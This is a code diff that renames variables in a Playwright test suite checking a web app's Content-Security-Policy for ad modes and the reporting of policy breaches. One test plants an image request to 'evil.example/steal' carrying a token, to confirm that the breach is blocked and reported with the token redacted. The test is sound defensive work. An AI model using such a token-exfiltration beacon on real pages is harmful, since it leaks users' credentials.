@@ -30,12 +30,12 @@ for (const [display, tag] of [
     troubles,
   }) => {
     const reports = await collectReports(page);
-    const here = await world({ scenario: 'plays-with-advertising', config: { ads: { display } } });
-    const answer = await page.goto(here.playUrl);
+    const testWorld = await world({ scenario: 'plays-with-advertising', config: { ads: { display } } });
+    const answer = await page.goto(testWorld.playUrl);
     const policy = answer?.headers()['content-security-policy'] ?? '';
     expect(policy.includes("'strict-dynamic'")).toBe(display === 'google');
     expect(policy.includes(`script-src 'self' `)).toBe(display !== 'google');
-    await player.plays(here);
+    await player.plays(testWorld);
     const space = page.locator('[data-ad-space="leaderboard"]');
     await expect(space).toHaveAttribute('data-shows', display === 'off' ? 'kept' : 'filled', { timeout: 20_000 });
     expect(await reports()).toEqual([]);
@@ -109,12 +109,12 @@ test('a breach of the page’s policy is told to the service for errors once, wi
 }) => {
   troubles.expect(/Content Security Policy|Trusted/);
   await shortenIdleWait(page);
-  const here = await openHome({
+  const testWorld = await openHome({
     config: { country: 'DE', measures: { errors: true } },
   });
   await page.getByRole('button', { name: words('en', 'privacy')('accept') }).click({ timeout: 30_000 });
   const breaches = async () =>
-    (await here.journal())
+    (await testWorld.journal())
       .filter(({ name }) => name === 'errors.envelope')
       .map(({ data }) => JSON.stringify(data))
       .filter((text) => text.includes('policy-breach'));
@@ -127,8 +127,8 @@ test('a breach of the page’s policy is told to the service for errors once, wi
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/steal/ben?token=at_planted_2';
   });
-  const [told = ''] = await breaches();
-  expect(told).toContain('https://evil.example');
-  expect(told).not.toMatch(/planted|steal|token/);
+  const [breach = ''] = await breaches();
+  expect(breach).toContain('https://evil.example');
+  expect(breach).not.toMatch(/planted|steal|token/);
   expect(await breaches()).toHaveLength(1);
 });
